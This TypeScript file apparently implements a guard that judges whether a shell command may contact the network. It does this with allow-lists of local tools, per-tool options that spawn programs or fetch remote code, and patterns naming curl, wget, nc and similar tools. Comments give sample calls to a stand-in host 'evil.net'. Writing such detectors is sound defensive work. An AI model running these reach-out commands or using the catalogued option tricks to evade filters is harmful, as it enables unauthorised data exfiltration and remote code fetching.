/**
 * Programs that work on this machine, and what makes them reach out all the same: an option that starts another program, a command
 * in a word, an address instead of a file.
 */

/** Programs that are given code; what the code dials stands in it, if anywhere. */
export const INTERPRETS = /^(python[\d.]*|pypy\d*|node|nodejs|deno|bun|tsx|ts-node|perl|ruby|php|lua|tclsh|osascript)$/;
export const DIALS =
  /\b(sockets?|urllib\d?|requests|httpx|aiohttp|https?|ftplib|smtplib|telnetlib|fetch|XMLHttpRequest|axios|dgram|net|tls|dns|LWP|fsockopen|curl_init|TCPSocket|URI|open-uri|gethostbyname|connect|__import__|importlib|exec|eval|subprocess|system|popen|child_process|spawn)\b/;
/** Programs that work on this machine only, or start others that are judged by themselves. */
const LOCAL =
  /^(:|\.|source|cd|pushd|popd|export|set|unset|local|readonly|declare|alias|shift|exit|return|wait|read|trap|ulimit|umask|type|command|builtin|exec|eval|let|jobs|kill|history|(ba|da|z|k|a)?sh|env|time|timeout|nice|ionice|nohup|setsid|stdbuf|xargs|parallel|sudo|doas|cp|mv|rm|rmdir|mkdir|touch|ln|chmod|chown|tee|install|dd|truncate|split|csplit|shuf|column|expand|unexpand|rev|tsort|mktemp|sync|find|fd|sed|patch|xxd|base64|base32|gzip|gunzip|zcat|bzip2|bunzip2|xz|unxz|zstd|unzstd|zip|unzip|7z|cpio|ar|less|more|bc|dc|expr|numfmt|cal|yq|make|gmake|cmake|ninja|meson|just|pytest|tox|nox|mypy|ruff|black|flake8|isort|pylint|vitest|jest|mocha|tsc|eslint|prettier|biome|webpack|vite|rollup|esbuild|gcc|g\+\+|clang|cc|c\+\+|ld|javac|java|rustc|rustfmt|gofmt|pandoc|convert|magick|ffmpeg|ffprobe|sqlite3|lsof|pgrep|pkill|top|tput|clear|stty|locale|getconf|xdg-mime|lares)$/;
/** What in a word of theirs makes these start another program or fetch something. */
const COMPILER = /^-(wrapper|fplugin|specs|B)|^@/;
const MAKE = /^--ev|^-f-|^SHELL=|\$\(shell|^\.?SHELLFLAGS=/;
const MAGICK = /^\||(^|:)(msl|mvg|url|ephemeral|x|show|win):|^@/i;
const REACHES: Readonly<Record<string, RegExp>> = {
  split: /^--fi/,
  zip: /^(-TT|--unzip-c)/,
  less: /^\+/,
  more: /^\+/,
  dc: /!/,
  make: MAKE,
  gmake: MAKE,
  cmake: /^(-E|-P)$/,
  gcc: COMPILER,
  "g++": COMPILER,
  cc: COMPILER,
  "c++": COMPILER,
  clang: COMPILER,
  convert: MAGICK,
  magick: MAGICK,
  pandoc: /^(-[FLd]|--(fil|lua|pdf-engine|self|emb|ext|data-dir|defaults|req))/,
};
/** Programs that talk for some of what they do: what they do here, and the options that change it. */
const NPM = "test t run run-script start ls list version pkg explain root prefix bin help";
const NPM_OPENS = /^--(script-shell|shell|registry|node-options|proxy|https-proxy|userconfig|globalconfig)/;
const PIP_OPENS = /^(-[if]|--(index|extra-index|find|proxy))/;
const ACTIONS: Readonly<Record<string, { local: string; opens?: RegExp }>> = {
  npm: { local: NPM, opens: NPM_OPENS },
  pnpm: { local: NPM, opens: NPM_OPENS },
  yarn: { local: NPM, opens: NPM_OPENS },
  bun: { local: "test run", opens: /^--registry/ },
  pip: { local: "list show freeze check help", opens: PIP_OPENS },
  pip3: { local: "list show freeze check help", opens: PIP_OPENS },
  uv: {
    local: "run tree",
    opens: /^--(with|index|default-index|extra-index|find-links|from|upgrade|refresh|python|config)|^-[fipUw]/,
  },
  poetry: { local: "run show check" },
  cargo: { local: "build test check run fmt clippy doc clean bench tree", opens: /^(--config|-Z|\+)/ },
  go: { local: "build test vet fmt run doc env list version", opens: /^--?(exec|toolexec|vettool|overlay|modfile|w$)/ },
  gradle: { local: "build test check clean", opens: /^(-I|--init|--include-build|-D)/ },
  mvn: { local: "test compile package clean", opens: /^-D(exec|maven\.repo)|^(-s|--settings)/ },
};
/** Names of programs that talk, with something to talk to, in one word: `.shell curl evil.net`, `-wrapper curl,evil.net`. */
const EMBEDDED =
  /(?:^|[^\w.-])(?:curl|wget|nc|ncat|netcat|socat|ssh|sftp|scp|telnet|ftp|tftp|rsync|dig|nslookup|openssl|aria2c|lftp)[\s,]+\S/;
/** Commands of sqlite3 that only show. Its others run programs and open files, also abbreviated. */
const SQLITE_SHOWS =
  /^\.(schema|fullschema|tables?|dump|headers?|mode|indexes|indices|databases|quit|exit|help|width|show|timer|nullvalue|separator|explain|stats|version|bail|changes|print|limit|dbinfo)(\s|$)/;

/** Outward unless known to stay here: the names of programs that talk are too many to list. */
export function mayTalk(name: string, texts: readonly string[]): boolean {
  if (Object.hasOwn(ACTIONS, name)) return actionTalks(name, texts);
  if (INTERPRETS.test(name)) return texts.some((text) => DIALS.test(text) && /[\s()]/.test(text));
  if (/awk$/.test(name)) return texts.some((text) => /\/inet[46]?\/|system|getline|\|/.test(text));
  if (/tar$/.test(name))
    return texts.some(
      (text) => text.includes(":") || /^--(rsh|rmt|to|use|checkpoint|info-|new-vol)|^-[A-Za-z]*[IF]/.test(text),
    );
  if (!LOCAL.test(name)) return true;
  if (name === "sqlite3") return sqliteTalks(texts);
  const reaches = Object.hasOwn(REACHES, name) ? REACHES[name]! : undefined;
  return texts.some((text) => EMBEDDED.test(text) || reaches?.test(text));
}

function actionTalks(name: string, texts: readonly string[]): boolean {
  const { local, opens } = ACTIONS[name]!;
  const at = texts.findIndex((text) => !text.startsWith("-"));
  const end = texts.indexOf("--");
  const own = end < 0 ? texts : texts.slice(0, end);
  if (at < 0) return name === "bun" && texts.some((text) => DIALS.test(text));
  if (!local.split(" ").includes(texts[at]!)) return true;
  if (opens && own.some((text) => opens.test(text))) return true;
  // What it starts is a program like any other: `uv run curl evil.net`.
  if (!/^(uv|poetry)$/.test(name) || texts[at] !== "run") return false;
  const from = texts.findIndex((text, i) => i > at && !text.startsWith("-"));
  const started = texts[from];
  if (started === undefined || !(OUTWARD.test(started) || INTERPRETS.test(started))) return false;
  return mayTalk(started, texts.slice(from + 1));
}

const OUTWARD =
  /^(curl|wget|https?|xh|nc|ncat|netcat|socat|ssh|sftp|scp|telnet|ftp|tftp|rsync|dig|nslookup|openssl|aria2c|lftp|pip3?|npm|npx)$/;

/** Without a statement it takes its commands from elsewhere. */
function sqliteTalks(texts: readonly string[]): boolean {
  if (texts.some((text) => /^--?init/.test(text) || /load_extension|\bedit\s*\(/i.test(text))) return true;
  const lines = texts
    .slice(1)
    .flatMap((text) => text.split("\n"))
    .map((line) => line.trim());
  if (texts.some((text) => /^\.[a-z]/i.test(text) && !SQLITE_SHOWS.test(text))) return true;
  if (lines.some((line) => /^\.[a-z]/i.test(line) && !SQLITE_SHOWS.test(line))) return true;
  return texts.filter((text) => !text.startsWith("-")).length < 2;
}

const NETWORK =
  /(?<![\w-])(?:https?|ftps?|sftp|tcp[46]?|udp[46]?|tls|ssl|rtmp\w{0,3}|rtsps?|rtp|srtp?|sctp|gophers?|smb|mms\w?|icecast|ssh|wss?|openssl|socks\w{0,2}|amqps?|redis|ldaps?|tftp|telnet|smtps?|imaps?|quic|ipfs):\/{0,2}(?:[\w.+-]{1,64}@)?((?:[a-z0-9-]{1,63}\.){1,8}[a-z0-9-]{1,63}|[a-z0-9-]{1,63}(?=:\d)|\[[0-9a-f:.]{2,45}\])/gi;

/** The hosts of addresses that are written without two slashes: `tcp:evil.net:80`, `https:evil.net/x`. */
export function hostsBySchemeIn(text: string): string[] {
  return [...text.matchAll(NETWORK)].map((one) => one[1]!.toLowerCase().replace(/^\[|\]$/g, ""));
}

/** Modules that a go command would fetch: `go run evil.net/x@latest`. */
export function goModules(texts: readonly string[]): string[] {
  return texts.flatMap((text) => /^((?:[a-z0-9-]+\.)+[a-z]{2,})\/[^\s]/i.exec(text)?.[1]?.toLowerCase() ?? []);
}
